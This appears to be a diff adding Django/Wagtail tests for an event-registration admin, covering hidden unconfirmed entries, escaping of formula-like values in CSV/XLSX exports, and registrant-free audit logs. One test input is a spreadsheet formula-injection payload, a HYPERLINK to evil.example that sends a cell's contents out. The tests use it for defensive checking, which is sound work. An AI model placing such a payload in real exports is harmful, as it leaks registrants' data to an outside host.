@@ -1,5 +1,6 @@
 """Registrations in the admin: only event managers see them; filters, counts, export, cancel."""
 
+import csv
 import io
 
 import openpyxl
@@ -142,3 +143,71 @@ def test_raising_the_capacity_in_the_admin_promotes_waiting_people(
     waiting.refresh_from_db()
     assert waiting.status == Status.CONFIRMED
     assert [m.subject for m in mailoutbox] == ["A seat is now yours: Full"]
+
+
+def test_unconfirmed_requests_are_not_listed_counted_or_exported(
+    client, event_manager, event, registrations
+):
+    EventRegistrationFactory(
+        event=event, name="Not Confirmed", email="n@x.org", status=Status.UNCONFIRMED
+    )
+    client.force_login(event_manager)
+    content = client.get(LISTING, {"event": event.pk}).content.decode()
+    assert "Not Confirmed" not in content
+    assert "<strong>Confirmed:</strong> 1" in content
+    csv_response = client.get(LISTING, {"event": event.pk, "export": "csv"})
+    assert "n@x.org" not in b"".join(csv_response.streaming_content).decode()
+    dashboard = client.get("/admin/").content.decode()
+    assert "1 / 20" in dashboard
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("http://evil.example/?"&B3,"Click")',
+        "+1 555 0100",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_exported_cells_that_could_be_formulas_open_as_text(client, event_manager, event, typed):
+    EventRegistrationFactory(event=event, name=typed, organisation=typed, email="f@x.org")
+    client.force_login(event_manager)
+
+    csv_response = client.get(LISTING, {"event": event.pk, "export": "csv"})
+    text = b"".join(csv_response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["Name"] == "'" + typed
+    assert rows[0]["Organisation"] == "'" + typed
+    assert rows[0]["Email"] == "f@x.org"  # ordinary cells are left alone
+
+    xlsx = client.get(LISTING, {"event": event.pk, "export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+    headings = [cell.value for cell in sheet[1]]
+    name = sheet.cell(row=2, column=headings.index("Name") + 1)
+    assert name.data_type == "s"
+    assert name.value.startswith("'")
+    assert name.value[1:].replace("\n", "\r") == typed.replace("\n", "\r")  # xlsx keeps \n
+
+
+def test_the_admin_log_names_no_registrant(admin_client, event, registrations):
+    from wagtail.models import ModelLogEntry
+
+    seated = registrations["seated"]
+    data = {
+        "name": "Seated Person",
+        "organisation": "City of Example",
+        "role": "Mayor",
+        "country": "KE",
+        "needs": "",
+        "local_government": "",
+    }
+    response = admin_client.post(f"{LISTING}edit/{seated.pk}/", data)
+    assert response.status_code == 302
+    entry = ModelLogEntry.objects.get(object_id=str(seated.pk), action="wagtail.edit")
+    assert entry.label == f"Registration #{seated.pk} for Access to services"
+    history = admin_client.get(f"{LISTING}history/{seated.pk}/").content.decode()
+    assert "Seated Person" not in history and "s@x.org" not in history
+    assert "Registration #" in history
